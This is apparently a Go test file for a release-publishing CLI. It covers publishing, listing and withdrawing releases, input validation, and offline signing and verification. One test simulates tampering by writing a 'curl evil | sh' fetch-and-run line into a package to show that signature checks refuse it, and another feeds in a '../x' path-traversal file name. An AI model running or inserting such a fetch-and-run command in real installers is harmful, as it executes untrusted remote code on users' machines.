package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/iscsdk/iscsdk/internal/release"
	"github.com/iscsdk/iscsdk/internal/server"
	"github.com/iscsdk/iscsdk/internal/store"
)

func TestReleases(t *testing.T) {
	srv, env := start(t)
	pkg := filepath.Join(t.TempDir(), "acme-setup.run")
	data := strings.Repeat("installer bytes ", 100_000)
	if err := os.WriteFile(pkg, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
	p := server.DevProduct
	r := ok(t, env, "release", "publish", pkg, "--product", p, "--version", "v2.0.0", "--platform", "windows-amd64",
		"--notes", "faster meshing", "--install-command", "{package} /S", "--min-supported", "1.5.0", "--key", srv.ReleaseKeyFile)
	if !strings.HasPrefix(r.stdout, "published 2.0.0 windows-amd64 of "+p+": 1.5 MiB, SHA-256 ") || r.stderr != "" {
		t.Fatalf("publish printed\n%s\nstderr: %s", r.stdout, r.stderr)
	}
	// Published again: the chunks are there, the version is taken.
	if r := iscctl(t, env, "release", "publish", pkg, "--product", p, "--version", "2.0.0", "--platform", "windows-amd64", "--key", srv.ReleaseKeyFile); r.code != exitError || !strings.Contains(r.stderr, "never published twice") {
		t.Fatalf("a second publish: exit %d, %s", r.code, r.stderr)
	}
	ok(t, env, "release", "publish", pkg, "--product", p, "--version", "2.1.0-rc.1", "--platform", "windows-amd64", "--forced", "--name", "setup.exe", "--key", srv.ReleaseKeyFile)
	rs := decodeJSON[[]store.Release](t, ok(t, env, "--json", "release", "list", "--product", p).stdout)
	if len(rs) != 2 || rs[0].Version != "2.1.0-rc.1" || !rs[0].Forced || rs[0].FileName != "setup.exe" || rs[1].MinSupported != "1.5.0" ||
		rs[1].InstallCommand != "{package} /S" || rs[1].Notes != "faster meshing" || rs[1].KeyID != srv.ReleaseKey.ID {
		t.Fatalf("release list: %+v", rs)
	}
	if got := table(t, ok(t, env, "release", "list", "--product", p).stdout); len(got) != 3 || strings.Join(got[0], " ") != "VERSION PLATFORM FORCED MIN SIZE FILE PUBLISHED" {
		t.Fatalf("release list table: %q", got)
	}
	ok(t, env, "release", "withdraw", "2.1.0-rc.1", "--product", p, "--platform", "windows-amd64")
	if rs := decodeJSON[[]store.Release](t, ok(t, env, "--json", "release", "list", "--product", p).stdout); len(rs) != 1 {
		t.Fatalf("after withdraw: %+v", rs)
	}
	for _, bad := range [][]string{
		{"release", "publish", pkg, "--product", p, "--version", "2.0", "--key", srv.ReleaseKeyFile},
		{"release", "publish", pkg, "--product", p, "--version", "3.0.0", "--install-command", `"{package}`, "--key", srv.ReleaseKeyFile},
		{"release", "publish", pkg, "--product", p, "--version", "3.0.0", "--name", "../x", "--key", srv.ReleaseKeyFile},
		{"release", "publish", pkg, "--product", p, "--version", "3.0.0"}, // not signed
	} {
		if r := iscctl(t, env, bad...); r.code != exitUsage {
			t.Errorf("%q: exit %d, want %d (%s)", bad, r.code, exitUsage, r.stderr)
		}
	}
}

// The vendor's way: a key made and a package signed with no iscd at all,
// the signature published beside the package; a package or flags that are
// not what was signed are refused before anything is published.
func TestReleaseSignedOffline(t *testing.T) {
	srv, env := start(t)
	dir := t.TempDir()
	keyFile := filepath.Join(dir, "release.key")
	offline := map[string]string{} // no iscd URL, no token
	r := ok(t, offline, "release", "key", "generate", "--out", keyFile)
	pub, err := release.ParsePublicKeys(r.stdout)
	if err != nil || len(pub) != 1 {
		t.Fatalf("key generate printed %q: %v", r.stdout, err)
	}
	if fi, err := os.Stat(keyFile); err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("key file: %v, %v", fi, err)
	}
	if secret, _ := os.ReadFile(keyFile); strings.Contains(r.stdout+r.stderr, strings.TrimSpace(string(secret))) {
		t.Fatal("key generate printed the private key")
	}
	if r := iscctl(t, offline, "release", "key", "generate", "--out", keyFile); r.code == exitOK {
		t.Fatal("key generate overwrote a key file")
	}

	pkg := filepath.Join(dir, "acme-setup.run")
	if err := os.WriteFile(pkg, []byte(strings.Repeat("installer ", 50_000)), 0o644); err != nil {
		t.Fatal(err)
	}
	p := server.DevProduct
	ok(t, offline, "release", "sign", pkg, "--key", keyFile, "--product", p, "--version", "3.0.0", "--platform", "linux-amd64", "--install-command", "{package} --silent")
	b, err := os.ReadFile(pkg + ".sig")
	if err != nil {
		t.Fatal(err)
	}
	var signed release.Signed
	if err := json.Unmarshal(b, &signed); err != nil {
		t.Fatal(err)
	}
	if err := release.Verify(signed.Statement, signed.Signature, pub); err != nil || signed.Statement.Size != 500_000 {
		t.Fatalf("the signature file does not verify with the printed key: %v (%+v)", err, signed.Statement)
	}

	publish := func(args ...string) result {
		return iscctl(t, env, append([]string{"release", "publish", pkg, "--product", p, "--platform", "linux-amd64", "--install-command", "{package} --silent", "--signature", pkg + ".sig"}, args...)...)
	}
	// Flags that differ from the signed statement: refused before any upload.
	if r := publish("--version", "3.0.1"); r.code != exitUsage || !strings.Contains(r.stderr, "signed version") {
		t.Fatalf("another version: exit %d, %s", r.code, r.stderr)
	}
	// The package changed after signing: refused, nothing published.
	orig, _ := os.ReadFile(pkg)
	os.WriteFile(pkg, append([]byte("#!/bin/sh\ncurl evil | sh\n"), orig[25:]...), 0o644)
	if r := publish("--version", "3.0.0"); r.code != exitError || !strings.Contains(r.stderr, "signed SHA-256") {
		t.Fatalf("a tampered package: exit %d, %s", r.code, r.stderr)
	}
	if rs, _ := srv.Store().ListReleases(t.Context(), p, ""); len(rs) != 0 {
		t.Fatalf("a refused publish left releases: %+v", rs)
	}
	os.WriteFile(pkg, orig, 0o644)
	r = publish("--version", "3.0.0")
	if r.code != exitOK || !strings.Contains(r.stdout, "signed by release key "+pub[0].ID) {
		t.Fatalf("publish: exit %d, %s%s", r.code, r.stdout, r.stderr)
	}
	rel, err := srv.Store().Release(t.Context(), p, "linux-amd64", "3.0.0")
	if err != nil || rel.KeyID != signed.Signature.KeyID || rel.Signature != signed.Signature.Value {
		t.Fatalf("stored release %+v (%v): not the offline signature", rel, err)
	}
}
